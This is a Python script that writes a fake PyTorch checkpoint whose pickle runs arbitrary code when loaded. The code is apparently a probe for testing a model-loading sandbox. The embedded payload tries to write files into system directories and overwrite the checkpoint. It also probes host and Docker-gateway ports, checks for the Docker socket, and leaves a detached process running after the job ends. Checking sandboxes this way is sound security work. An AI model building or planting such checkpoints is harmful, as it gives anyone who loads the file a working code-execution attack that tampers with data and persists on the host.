"""Write a `best.pt` whose pickle runs code: `python hostile_checkpoint.py best.pt`. Run it with the standard library.

The code tries to leave the container, says what it could do on standard error, and leaves a process behind.
"""

import pickle
import sys
import zipfile

CODE = r"""
import json, os, socket, subprocess, sys, time
from pathlib import Path
def attempt(deed):
    try:
        deed()
    except OSError as error:
        return type(error).__name__
    return "done"
def connect(place):
    socket.create_connection(place, 1).close()
places = ["/", "/etc", "/in/pt", "/opt/mcwbuild", "/usr/local", "/var/tmp", "/root", "/home", "/proc/1"]
ports = [int(word) for word in Path("/in/model-code/ports/ports.txt").read_text().split()]
found = {
    "writes": {place: attempt(lambda: Path(place, "canary").write_text("x")) for place in places},
    "checkpoint": attempt(lambda: Path("/in/pt/best.pt").write_bytes(b"")),
    "connections": {f"{host}:{port}": attempt(lambda: connect((host, port)))
                    for host in ("127.0.0.1", "172.17.0.1") for port in ports},
    "datagram": attempt(lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b"x", ("172.17.0.1", ports[1]))),
    "docker": os.path.exists("/var/run/docker.sock"),
}
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "outlives-the-run"])
    os._exit(0)
print("PROBE " + json.dumps(found), file=sys.stderr, flush=True)
"""


class Payload:
    """Becomes a call of `exec` when it is unpickled."""

    def __reduce__(self):
        return exec, (CODE, {"__name__": "payload"})


def main(path):
    """The archive that `torch.load` reads."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("best/data.pkl", pickle.dumps({"model": Payload()}, 2))
        archive.writestr("best/version", "3\n")
        archive.writestr("best/byteorder", "little")


if __name__ == "__main__":
    main(sys.argv[1])
